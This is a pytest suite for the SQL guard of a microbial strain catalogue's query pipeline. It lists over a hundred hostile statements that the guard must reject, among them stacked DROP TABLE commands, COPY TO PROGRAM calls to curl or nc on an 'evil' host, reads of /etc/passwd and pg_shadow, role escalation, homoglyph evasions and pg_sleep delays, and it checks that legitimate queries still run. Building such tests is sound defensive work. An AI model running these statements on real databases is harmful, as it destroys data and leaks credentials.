"""The guard against hostile SQL: none of these statements passes post-processing, so none can reach
the database; the legitimate queries below keep working and run on the real catalogue.

    .venv/bin/python -m pytest -q tests/test_guard_adversarial.py
"""

from __future__ import annotations

import pytest
from test_sqlproc_fakes import FakeValues, contract_facts

from sqlproc.pipeline import SqlRejected, check_sql, postprocess

FACTS = contract_facts(FakeValues())

STACKED = [
    "SELECT 1; DROP TABLE detailedstrain",
    "SELECT * FROM detailedstrain; DELETE FROM detailedstrain",
    "SELECT * FROM detailedstrain WHERE genus = 'x'; UPDATE detailedstrain SET genus = 'y'",
    "SELECT 1;;; DROP TABLE detailedstrain",
    "SELECT 1; SELECT pg_sleep(10)",
    "SELECT 1; COPY detailedstrain TO PROGRAM 'curl evil'",
    "SELECT 1;\nDROP TABLE detailedstrain;",
    "select 1; create role evil superuser",
    "SELECT 1; GRANT ALL ON detailedstrain TO PUBLIC",
    "SELECT 1; SET ROLE strainchat_owner",
    "DROP TABLE detailedstrain; SELECT 1",
    "SELECT 1 UNION SELECT 2; TRUNCATE detailedstrain",
]
DML_DDL = [
    "INSERT INTO detailedstrain (strainid) VALUES (99999)",
    "UPDATE detailedstrain SET genus = 'x'",
    "DELETE FROM detailedstrain",
    "TRUNCATE detailedstrain",
    "MERGE INTO detailedstrain d USING syntheticstrain s ON d.strainid = s.strainid WHEN MATCHED THEN DELETE",
    "DROP TABLE detailedstrain",
    "DROP VIEW syntheticstrain CASCADE",
    "CREATE TABLE evil AS SELECT * FROM detailedstrain",
    "CREATE FUNCTION evil() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
    "ALTER TABLE detailedstrain DROP COLUMN genus",
    "ALTER ROLE strainchat_reader SUPERUSER",
    "GRANT SELECT ON querylog TO strainchat_reader",
    "REVOKE ALL ON detailedstrain FROM strainchat_reader",
    "COMMENT ON TABLE detailedstrain IS 'pwned'",
    "CREATE EXTENSION dblink",
    "INSERT INTO querylog (question, status) SELECT 'x', 'ok'",
]
DML_IN_CTE = [
    "WITH d AS (DELETE FROM detailedstrain RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE detailedstrain SET genus = 'x' RETURNING strainid) SELECT count(*) FROM u",
    "WITH i AS (INSERT INTO detailedstrain (strainid) VALUES (0) RETURNING *) SELECT * FROM i",
    "WITH a AS (SELECT 1), d AS (DELETE FROM querylog RETURNING id) SELECT * FROM a",
    "SELECT * FROM detailedstrain WHERE strainid IN "
    "(WITH d AS (DELETE FROM detailedstrain RETURNING strainid) SELECT strainid FROM d)",
]
INTO_COPY_DO_PREPARE = [
    "SELECT * INTO evil FROM detailedstrain",
    "SELECT genus INTO TEMP t FROM detailedstrain",
    "SELECT * INTO UNLOGGED TABLE evil FROM detailedstrain",
    "COPY detailedstrain TO '/tmp/strains.csv'",
    "COPY detailedstrain FROM '/etc/passwd'",
    "COPY (SELECT * FROM detailedstrain) TO PROGRAM 'nc evil 80'",
    "COPY detailedstrain TO STDOUT",
    "DO $$ BEGIN EXECUTE 'DROP TABLE detailedstrain'; END $$",
    "DO LANGUAGE plpgsql $body$ BEGIN PERFORM pg_sleep(10); END $body$",
    "PREPARE p AS DELETE FROM detailedstrain",
    "EXECUTE p",
    "PREPARE q (int) AS SELECT * FROM detailedstrain WHERE strainid = $1",
    "DEALLOCATE ALL",
]
FUNCTIONS = [
    "SELECT pg_sleep(10)",
    "SELECT * FROM detailedstrain WHERE pg_sleep(10) IS NOT NULL",
    "SELECT genus FROM detailedstrain ORDER BY pg_sleep(1)",
    "SELECT count(*) FROM detailedstrain WHERE genus = (SELECT CAST(pg_sleep(5) AS TEXT))",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('global/pg_control')",
    "SELECT pg_ls_dir('.')",
    "SELECT pg_stat_file('postgresql.conf')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(16385, '/tmp/x')",
    "SELECT lo_get(16385)",
    "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
    "SELECT dblink_exec('dbname=strainchat', 'DROP TABLE detailedstrain')",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT current_setting('data_directory')",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_cancel_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT query_to_xml('SELECT * FROM querylog', true, true, '')",
    "SELECT version()",
    "SELECT inet_server_addr()",
    "SELECT txid_current()",
    "SELECT pg_advisory_lock(1)",
    "SELECT nextval('querylog_id_seq')",
    "SELECT pg_notify('c', 'x')",
    "SELECT * FROM generate_series(1, 100000000)",
    "SELECT genus FROM detailedstrain WHERE genus = current_user",
    "SELECT session_user",
    "SELECT user",
    "SELECT current_database()",
    "SELECT * FROM detailedstrain WHERE strainid = ANY(SELECT CAST(pg_sleep(1) AS INT))",
    "SELECT string_agg(pg_read_file('/etc/passwd'), ',') FROM detailedstrain",
]
SESSION_COMMANDS = [
    "SET ROLE strainchat_owner",
    "SET SESSION AUTHORIZATION postgres",
    "SET statement_timeout = 0",
    "RESET ALL",
    "BEGIN",
    "COMMIT",
    "LISTEN evil",
    "NOTIFY evil",
    "LOCK TABLE detailedstrain IN ACCESS EXCLUSIVE MODE",
    "VACUUM FULL detailedstrain",
    "ANALYZE detailedstrain",
    "EXPLAIN ANALYZE DELETE FROM detailedstrain",
    "CALL evil()",
    "DISCARD ALL",
    "LOAD 'evil.so'",
    "CHECKPOINT",
    "SHOW ALL",
]
CATALOGS = [
    "SELECT * FROM pg_user",
    "SELECT usename, passwd FROM pg_shadow",
    "SELECT * FROM pg_authid",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT table_name FROM information_schema.tables",
    "SELECT * FROM information_schema.columns WHERE table_name = 'querylog'",
    "SELECT * FROM pg_settings",
    "SELECT query FROM pg_stat_activity",
    'SELECT * FROM "pg_catalog"."pg_class"',
    "SELECT d.genus FROM detailedstrain d JOIN pg_roles r ON true",
    "SELECT * FROM detailedstrain WHERE genus IN (SELECT proname FROM pg_proc)",
    "SELECT genus FROM detailedstrain UNION SELECT usename FROM pg_user",
    "SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)",
    "TABLE pg_user",
    "SELECT * FROM querylog",
    "SELECT * FROM value_alias",
    "SELECT * FROM public.catalogue_meta",
    "SELECT * FROM strainchat.public.detailedstrain",
    "SELECT * FROM other_schema.detailedstrain",
]
LOCKS = [
    "SELECT * FROM detailedstrain FOR UPDATE",
    "SELECT * FROM detailedstrain FOR SHARE",
    "SELECT * FROM detailedstrain WHERE genus = 'x' FOR NO KEY UPDATE",
    "SELECT * FROM detailedstrain FOR KEY SHARE SKIP LOCKED",
]
CASTS_PARAMS_COST = [
    "SELECT 'pg_sleep'::regproc",
    "SELECT CAST('detailedstrain' AS regclass)",
    "SELECT 1::oid",
    "SELECT * FROM detailedstrain WHERE genus = $1",
    "SELECT * FROM detailedstrain WHERE genus = %s",
    "SELECT * FROM detailedstrain WHERE genus = %(genus)s",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
    "SELECT count(*) FROM detailedstrain a, detailedstrain b, detailedstrain c, detailedstrain d, detailedstrain e, "
    "detailedstrain f, detailedstrain g, detailedstrain h, detailedstrain i",
    "SELECT * FROM detailedstrain, LATERAL (SELECT pg_sleep(1)) AS s",
    "VALUES (1), (2)",
]
COMMENT_QUOTE_UNICODE = [
    "SELECT 1 --\n; DELETE FROM detailedstrain",
    "/* harmless */ DROP TABLE detailedstrain",
    "SELECT 1 /* comment */; /* another */ DROP TABLE detailedstrain",
    "SELECT $$;$$; DROP TABLE detailedstrain",
    "SELECT $tag$ x $tag$; DELETE FROM detailedstrain",
    "SELECT E'\\''; DROP TABLE detailedstrain; --'",
    "SELECT 'a'; DROP TABLE detailedstrain; --'",
    "SELECT * FROM detailedstrain WHERE genus = 'x'; --'; SELECT 1",
    'SELECT * FROM "detailedstrain"; DROP TABLE "detailedstrain"',
    'SELECT U&"\\0070g_sleep"(1)',
    'SELECT * FROM U&"\\0070g_user"',
    "SELECT 1\uff1b DROP TABLE detailedstrain",  # fullwidth semicolon
    "SELECT 1\u2028DROP TABLE detailedstrain",  # line separator
    "SELECT\u200b pg_sleep(1)",  # zero-width space
    "SELECT * FROM detailedstrain WHERE genus = 'a\u202e'",  # right-to-left override
    "SELECT 1\x00; DROP TABLE detailedstrain",  # NUL byte
    "\uff24\uff32\uff2f\uff30 TABLE detailedstrain",  # fullwidth DROP
    "\u0405ELECT pg_sleep(1)",  # Cyrillic S
    "SELECT pg_sleep\u200d(1)",  # zero-width joiner
    "SELECT pg_\u0455leep(1)",  # homoglyph in a function name
]
PROSE_WRAPPED = [
    "Sure! Here is the query:\n```sql\nDROP TABLE detailedstrain;\n```",
    "Here you go: DELETE FROM detailedstrain WHERE true",
    "```sql\nSELECT * FROM detailedstrain;\nDROP TABLE detailedstrain;\n```",
    "The answer: SELECT * FROM detailedstrain; UPDATE detailedstrain SET genus = NULL;",
    "First run TRUNCATE detailedstrain; then SELECT count(*) FROM detailedstrain",
    "[SELECT pg_sleep(100);]",
    "",
    "   ",
    "I cannot help with that.",
    "x" * 20_000,
    "(" * 5000 + "SELECT 1" + ")" * 5000,
    "(" * 3000 + "SELECT pg_sleep(1)" + ")" * 3000,
    "SELECT " + "(" * 2000 + "1" + ")" * 2000 + "; DROP TABLE detailedstrain",
]
HOSTILE = (
    STACKED
    + DML_DDL
    + DML_IN_CTE
    + INTO_COPY_DO_PREPARE
    + FUNCTIONS
    + SESSION_COMMANDS
    + CATALOGS
    + LOCKS
    + CASTS_PARAMS_COST
    + COMMENT_QUOTE_UNICODE
    + PROSE_WRAPPED
)


def test_the_suite_is_large_enough():
    assert len(set(HOSTILE)) >= 100


@pytest.mark.parametrize("sql", HOSTILE, ids=lambda sql: repr(sql[:60]))
def test_hostile_sql_never_passes(sql):
    with pytest.raises(SqlRejected) as refused:
        postprocess(sql, FACTS)
    assert str(refused.value).strip()
    result = check_sql(sql, FACTS)
    assert result == {"ok": False, "sql": None, "error": str(refused.value)}


@pytest.mark.parametrize("sql", HOSTILE[:40], ids=lambda sql: repr(sql[:60]))
def test_hostile_sql_is_refused_without_repairs_too(sql):
    with pytest.raises(SqlRejected):
        postprocess(sql, FACTS, repair=False)


def test_bad_input_types_get_a_message():
    for value in (None, 42, b"SELECT 1", ["SELECT 1"]):
        with pytest.raises(SqlRejected, match="expected SQL text"):
            postprocess(value, FACTS)


# Legitimate queries, including ones that look suspicious to a naive filter: (sql, rows or None).
LEGITIMATE = [
    ("SELECT * FROM detailedstrain WHERE substrate = 'Marine sediment'", 115),
    ("SELECT count(*) FROM detailedstrain WHERE region = 'Ligury'", 1),
    ("SELECT accessionnumber FROM detailedstrain WHERE organismtype = 'Yeasts'", 427),
    ("SELECT * FROM detailedstrain WHERE remarks ILIKE '%drop table%' OR remarks ILIKE '%delete%'", None),
    ("SELECT * FROM detailedstrain WHERE genus = 'DROP TABLE detailedstrain; --'", 0),
    ("SELECT 'pg_sleep(10)' AS text_only", 1),
    ("SELECT * FROM detailedstrain WHERE remarks = 'a;b' -- a comment; DROP", 0),
    ("SELECT * FROM detailedstrain /* update */ WHERE genus = 'Fusarium'", 214),
    ("SELECT count(*) FROM detailedstrain WHERE status", 1),
    ('SELECT "genus", count(*) FROM "detailedstrain" GROUP BY "genus"', None),
    ("SELECT genus, count(*) AS n FROM detailedstrain GROUP BY genus HAVING count(*) > 100 ORDER BY n DESC", None),
    ("WITH y AS (SELECT * FROM detailedstrain WHERE organismtype = 'Yeasts') SELECT count(*) FROM y", 1),
    (
        "SELECT * FROM detailedstrain WHERE genus = 'Fusarium' "
        "UNION SELECT * FROM detailedstrain WHERE genus = 'Trichoderma'",
        374,
    ),
    (
        "SELECT * FROM detailedstrain d WHERE EXISTS (SELECT 1 FROM syntheticstrain s WHERE s.strainid = d.strainid)",
        7216,
    ),
    (
        "SELECT CASE WHEN riskgroup > 1 THEN 'high' ELSE 'low' END AS risk, count(*) FROM detailedstrain GROUP BY 1",
        None,
    ),
    ("SELECT coalesce(country, 'unknown'), count(*) FROM detailedstrain GROUP BY 1 ORDER BY 2 DESC LIMIT 5", 5),
    ("SELECT genus || ' ' || species AS name FROM detailedstrain WHERE genus ~* '^asperg' LIMIT 3", 3),
    ("SELECT * FROM detailedstrain WHERE recommendedtemperature BETWEEN 20 AND 30 AND typestrain IS TRUE", None),
    ("SELECT * FROM detailedstrain WHERE country IS NULL", 335),
    ("SELECT avg(testedtgmax) FROM detailedstrain WHERE testedtgmax IS NOT NULL", 1),
    ("SELECT lower(genus), upper(species), length(accessionnumber) FROM detailedstrain LIMIT 2", 2),
    ("SELECT DISTINCT ON (genus) genus, accessionnumber FROM detailedstrain ORDER BY genus LIMIT 5", 5),
    ("SELECT genus, row_number() OVER (ORDER BY genus) FROM detailedstrain LIMIT 3", 3),
    ("SELECT string_agg(DISTINCT organismtype, ', ') FROM detailedstrain", 1),
    ("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY recommendedtemperature) FROM detailedstrain", 1),
    ("SELECT count(*) FILTER (WHERE organismtype = 'Bacteria') FROM detailedstrain", 1),
    (
        "SELECT * FROM detailedstrain WHERE strainid IN "
        "(SELECT strainid FROM syntheticstrain WHERE taxonname = 'Aspergillus niger')",
        None,
    ),
    ("SELECT * FROM detailedstrain WHERE collectiondate >= '2020' ORDER BY collectiondate DESC LIMIT 10", 10),
    ("SELECT * FROM public.detailedstrain WHERE genus = 'Penicillium'", 1141),
    ("SELECT s.* FROM syntheticstrain s WHERE s.organismtype = 'Bacteria'", 493),
    ("SELECT count(*) FROM detailedstrain WHERE genus = 'Università'", 1),
    ("SELECT * FROM detailedstrain WHERE accessionnumber = ANY(ARRAY['MUT 1', 'MUT 2'])", None),
    ("SELECT * FROM detailedstrain WHERE genus NOT IN ('Penicillium') AND genus <> 'Aspergillus' LIMIT 5", 5),
    ("SELECT cast(recommendedtemperature AS text), round(testedtgmin, 1) FROM detailedstrain LIMIT 1", 1),
    ("SELECT * FROM detailedstrain WHERE substring(accessionnumber, 1, 3) = 'MUT' LIMIT 2", 2),
    ('SELECT 1 AS "a""b; DROP TABLE detailedstrain --"', 1),
]


@pytest.mark.parametrize(("sql", "rows"), LEGITIMATE, ids=lambda v: repr(v)[:60] if isinstance(v, str) else str(v))
def test_legitimate_sql_keeps_working(catalogue, sql, rows):
    processed = postprocess(sql, FACTS)
    result = catalogue.run_read(processed.sql, max_rows=None)
    if rows is not None:
        assert result.row_count == rows
    if processed.relaxed_sql:
        catalogue.run_read(processed.relaxed_sql, max_rows=1)
